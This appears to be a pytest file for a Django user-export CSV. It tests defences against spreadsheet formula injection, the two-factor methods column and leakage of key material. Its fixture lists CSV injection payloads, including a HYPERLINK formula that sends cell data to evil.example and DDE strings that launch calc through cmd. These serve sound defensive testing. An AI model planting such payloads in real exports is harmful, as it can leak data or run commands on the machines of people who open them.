"""The All users CSV, downloaded as staff: no cell a spreadsheet would run as a formula
(OWASP "CSV injection"), however the formula is padded or spelled."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.user_list import spreadsheet_safe
from tests.keys import add_keys
from twofactor.models import WebAuthnCredential

CSV_URL = "/accounts/users/export.csv"

# Names a user can give themselves that start a formula or a DDE call somewhere.
FORMULA_NAMES = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pipe (DDE)": "|calc'!A0",
    "percent": "%0A=1+1",
    "leading space": "   =1+1",
    "leading tab": "\t=1+1",
    "leading newline": "\n=1+1",
    "leading carriage return": "\r=1+1",
    "tab alone": "\tAnn",
    "no-break space": "\u00a0=1+1",
    "ideographic space": "\u3000=1+1",
    "zero-width space": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "control character": "\x01\x1f=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "full-width minus": "\uff0d1+1",
    "full-width at": "\uff20SUM(1+1)",
    "small equals": "\ufe661+1",
    "minus sign": "\u22121+1",
}
HARMLESS_NAMES = ["Ann Archer", "O'Brien", "Zoë Zed", "1st Floor", "Ann = Bob", "a-b@c"]


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500]
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def staff_client(client, make_user, log_in_verified):
    staff = make_user("staff@example.com", name="Sam Staff", is_staff=True)
    for codename in ("view_user", "reset_two_factor"):
        staff.user_permissions.add(Permission.objects.get(codename=codename))
    log_in_verified(client, get_user_model().objects.get(pk=staff.pk))
    return client


def export_of(client, email: str) -> list[str]:
    """The one data row of the user with this address."""
    header, *rows = csv_cells(client.get(CSV_URL, {"q": email}))
    assert header[:2] == ["name", "email"]
    assert len(rows) == 1, rows
    return rows[0]


@pytest.mark.parametrize("kind", FORMULA_NAMES)
def test_a_formula_in_a_name_is_written_as_text(staff_client, make_user, kind):
    name = FORMULA_NAMES[kind]
    make_user("mallory@example.com", name=name)
    row = export_of(staff_client, "mallory@example.com")
    assert row[0] == f"'{name}"


@pytest.mark.parametrize("name", HARMLESS_NAMES)
def test_an_ordinary_name_is_written_unchanged(staff_client, make_user, name):
    make_user("ann@example.com", name=name)
    assert export_of(staff_client, "ann@example.com")[0] == name


@pytest.mark.parametrize(
    "email",
    [
        "=1+1@example.com",
        "+1@example.com",
        "-1@example.com",
        "@1@example.com",
        "|calc@example.com",
        "%1@example.com",
        "\uff1dcmd@example.com",  # stored NFKC-normalised: "=cmd@example.com"
    ],
)
def test_a_formula_in_an_email_address_is_written_as_text(staff_client, make_user, email):
    user = make_user(email, name="Mallory")
    row = export_of(staff_client, user.email)
    assert row[1] == f"'{user.email}"


def test_no_cell_of_the_export_starts_a_formula(staff_client, make_user):
    for number, name in enumerate(FORMULA_NAMES.values()):
        make_user(f"-user{number}@example.com", name=name)
    _, *rows = csv_cells(staff_client.get(CSV_URL))
    assert len(rows) == len(FORMULA_NAMES) + 1  # and the staff member
    for row in rows:
        for cell in row:
            # Text, a date, a number, or defused: nothing else may open a cell.
            assert not cell or cell[0] == "'" or cell[0].isalnum(), f"{cell!r} is not defused"


@pytest.mark.parametrize("name", FORMULA_NAMES.values())
def test_defusing_is_idempotent(name):
    once = spreadsheet_safe(name)
    assert spreadsheet_safe(once) == once


# --- The Methods column ------------------------------------------------------------------


def methods_by_email(client, **params) -> dict[str, str]:
    header, *rows = csv_cells(client.get(CSV_URL, params))
    email, methods = header.index("email"), header.index("two_factor_methods")
    return {row[email]: row[methods] for row in rows}


@pytest.fixture
def with_keys(make_user, enrolled):
    """ann: the app and two keys; bob: the app and one key; cid: nothing."""
    ann, bob = make_user("ann@example.com"), make_user("bob@example.com")
    make_user("cid@example.com")
    for user, keys in ((ann, 2), (bob, 1)):
        enrolled(user)
        add_keys(user, keys)


def test_the_export_names_each_users_methods_in_the_tables_words(staff_client, with_keys):
    assert methods_by_email(staff_client) == {
        "ann@example.com": "Authenticator app, 2 passkeys or security keys",
        "bob@example.com": "Authenticator app, 1 passkey or security key",
        "cid@example.com": "",  # empty, like every other missing value of the export
        "staff@example.com": "Authenticator app",
    }


def test_the_methods_column_follows_the_status_column(staff_client, with_keys):
    header = csv_cells(staff_client.get(CSV_URL))[0]
    assert header[2:4] == ["two_factor_status", "two_factor_methods"]


def test_the_export_holds_no_key_material(staff_client, with_keys):
    text = b"".join(staff_client.get(CSV_URL).streaming_content).decode()
    for credential_id, name in WebAuthnCredential.objects.values_list("credential_id", "name"):
        assert credential_id not in text
        assert name not in text  # the user's own label for a key stays on their profile


def test_keys_add_no_query_to_the_export(staff_client, make_user, enrolled):
    for number in range(5):
        enrolled(make_user(f"user{number}@example.com"))
    staff_client.get(CSV_URL)  # the security policy is cached from here on
    with CaptureQueriesContext(connection) as without_keys:
        assert len(csv_cells(staff_client.get(CSV_URL))) == 7  # header, 5 users, staff
    for user in get_user_model().objects.filter(email__startswith="user"):
        add_keys(user, 2)
    with CaptureQueriesContext(connection) as with_keys:
        csv_cells(staff_client.get(CSV_URL))
    assert len(with_keys) == len(without_keys)
